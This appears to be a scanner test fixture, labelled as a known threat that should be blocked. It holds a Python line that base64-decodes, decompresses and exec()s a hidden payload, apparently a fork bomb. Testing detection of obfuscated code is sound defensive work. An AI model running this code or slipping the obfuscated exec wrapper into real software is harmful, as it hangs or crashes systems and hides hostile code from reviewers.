# expect: BLOCKED category: known_threat variant-of: risky/known_threat/fork_bomb_snippet.py technique: exec-wrapped
import base64, zlib
exec(zlib.decompress(base64.b64decode('eJzLzC3ILypRyC/mKs/IzElVCCkqTbUCcvXS8ouyNTQBt1cK7g==')))
